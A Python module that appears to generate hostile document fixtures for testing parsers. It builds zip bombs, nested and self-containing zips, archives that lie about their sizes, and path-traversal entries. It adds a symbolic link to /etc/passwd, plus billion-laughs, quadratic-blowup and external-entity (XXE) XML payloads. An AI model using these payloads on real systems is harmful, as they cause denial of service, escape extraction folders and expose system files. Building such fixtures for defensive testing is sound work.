"""Zip packages made to harm who opens them: bombs, loops, entities, links out, lies in their lists."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
P = "http://schemas.openxmlformats.org/presentationml/2006/main"
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
STYLE = "urn:oasis:names:tc:opendocument:xmlns:style:1.0"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def zipped(parts, *, level=9):
    """A zip of (name, data) pairs; data may be bytes, text, or an iterator of bytes for what is too large to hold."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in dict(parts).items():
            if isinstance(data, bytes | str):
                archive.writestr(name, data)
                continue
            with archive.open(name, "w", force_zip64=True) as part:
                for piece in data:
                    part.write(piece)
    return held.getvalue()


def relations(*rows, mode=None):
    external = f' TargetMode="{mode}"' if mode else ""
    items = "".join(
        f'<Relationship Id="r{n}" Type="{R}/{kind}" Target="{to}"{external}/>' for n, (kind, to) in enumerate(rows)
    )
    return f'<Relationships xmlns="{PACKAGE}">{items}</Relationships>'


def docx(body, *, before="", more=()):
    """A Word file with this body; ``before`` stands before the root element, where a DTD stands."""
    document = f'<?xml version="1.0"?>{before}<w:document xmlns:w="{W}" xmlns:r="{R}" xmlns:a="{A}"><w:body>{body}</w:body></w:document>'
    parts = {"_rels/.rels": relations(("officeDocument", "word/document.xml")), "word/document.xml": document}
    return zipped({**parts, **dict(more)})


def paragraph(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def odt(body, *, before="", more=()):
    content = (
        f'<?xml version="1.0"?>{before}<office:document-content xmlns:office="{OFFICE}" xmlns:text="{TEXT}" xmlns:table="{TABLE}"'
        f' xmlns:style="{STYLE}"><office:body><office:text>{body}</office:text></office:body></office:document-content>'
    )
    return zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content, **dict(more)})


def pptx(slide, *, before="", slides=1, more=()):
    ids = "".join(f'<p:sldId id="{n}" r:id="r0"/>' for n in range(slides))
    parts = {
        "_rels/.rels": relations(("officeDocument", "ppt/presentation.xml")),
        "ppt/presentation.xml": f'<p:presentation xmlns:p="{P}" xmlns:r="{R}"><p:sldIdLst>{ids}</p:sldIdLst></p:presentation>',
        "ppt/_rels/presentation.xml.rels": relations(("slide", "slides/slide1.xml")),
        "ppt/slides/slide1.xml": f'<?xml version="1.0"?>{before}<p:sld xmlns:p="{P}" xmlns:a="{A}"><p:cSld><p:spTree>{slide}</p:spTree></p:cSld></p:sld>',
    }
    return zipped({**parts, **dict(more)})


def shape(text):
    return f"<p:sp><p:txBody><a:p><a:r><a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp>"


def epub(chapter, *, before="", spine=1, package_before="", container_before=""):
    references = '<itemref idref="c"/>' * spine
    container = (
        f'{container_before}<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
        '<rootfile full-path="book.opf"/></rootfiles></container>'
    )
    book = (
        f'{package_before}<package xmlns="http://www.idpf.org/2007/opf"><manifest>'
        f'<item id="c" href="c.xhtml" media-type="application/xhtml+xml"/></manifest><spine>{references}</spine></package>'
    )
    page = f'{before}<html xmlns="http://www.w3.org/1999/xhtml"><body>{chapter}</body></html>'
    return zipped(
        {"mimetype": "application/epub+zip", "META-INF/container.xml": container, "book.opf": book, "c.xhtml": page}
    )


def spaces(count, piece=b" " * (1 << 20)):
    """``count`` megabytes of the same bytes."""
    return (piece for _ in range(count))


def nested(levels, inside):
    """A zip in a zip in a zip."""
    for level in range(levels):
        inside = zipped({f"{level}.zip": inside}, level=1)
    return inside


def overlapping(entries, kernel_megabytes):
    """Many entries of the list of contents that lead to one and the same packed kernel."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = b"".join(kernel.compress(piece) for piece in spaces(kernel_megabytes)) + kernel.flush()
    size, checksum = kernel_megabytes << 20, 0
    for piece in spaces(kernel_megabytes):
        checksum = zlib.crc32(piece, checksum)
    sizes = struct.pack("<LLL", checksum, len(data), size)
    name = b"word/document.xml"
    local = struct.pack("<4s5H", b"PK\3\4", 20, 0, 8, 0, 0) + sizes + struct.pack("<HH", len(name), 0) + name
    listed = b""
    for number in range(entries):
        entry = name if number == 0 else b"word/%05d.xml" % number
        listed += struct.pack("<4s6H", b"PK\1\2", 20, 20, 0, 8, 0, 0) + sizes
        listed += struct.pack("<5HLL", len(entry), 0, 0, 0, 0, 0, 0) + entry
    return local + data + listed + _end(entries, len(listed), len(local) + len(data))


def holding_itself():
    """A zip whose only entry, stored, is the rest of the file: the list that names it among it."""
    name = b"word/document.xml"
    head = 30 + len(name)
    list_size, end_size = 46 + len(name), 22
    sizes = struct.pack("<LLL", 0, list_size + end_size, list_size + end_size)
    local = struct.pack("<4s5H", b"PK\3\4", 20, 0, 0, 0, 0) + sizes + struct.pack("<HH", len(name), 0) + name
    listed = struct.pack("<4s6H", b"PK\1\2", 20, 20, 0, 0, 0, 0) + sizes
    listed += struct.pack("<5HLL", len(name), 0, 0, 0, 0, 0, 0) + name
    return local + listed + _end(1, len(listed), head)


def lying_about_size(data):
    """A package whose list says that a part of 300 MB has ten bytes."""
    real = struct.pack("<L", 300 << 20)
    return data.replace(real, struct.pack("<L", 10))


def _end(entries, size, start):
    return struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, entries, entries, size, start, 0)


def symbolic_link(name, to):
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return info, to


def docx_with_escapes(good):
    """Parts whose names lead out of any folder they would be unpacked into, and a part that is a symbolic link."""
    held = io.BytesIO(good)
    with zipfile.ZipFile(held, "a") as archive:
        for name in ("../../escaped.txt", "/tmp/escaped.txt", "word/../../../escaped.txt", "C:\\escaped.txt"):
            archive.writestr(name, "escaped")
        archive.writestr(*symbolic_link("word/media/link.png", "/etc/passwd"))
    return held.getvalue()


def laughs(depth=10, width=10):
    """Entities that double and double again (billion laughs)."""
    rows = ['<!ENTITY l0 "haha">']
    rows += [f'<!ENTITY l{n} "{f"&l{n - 1};" * width}">' for n in range(1, depth)]
    return f"<!DOCTYPE r [{''.join(rows)}]>", f"&l{depth - 1};"


def quadratic(size=200_000, times=20_000):
    """One long entity, used very often."""
    return f'<!DOCTYPE r [<!ENTITY a "{"A" * size}">]>', "&a;" * times


def external(address):
    """An entity, a parameter entity and a definition that lie elsewhere."""
    return (
        f'<!DOCTYPE r SYSTEM "{address}/r.dtd" [<!ENTITY % p SYSTEM "{address}/p.ent"> %p; <!ENTITY x SYSTEM "{address}">]>',
        "&x;",
    )
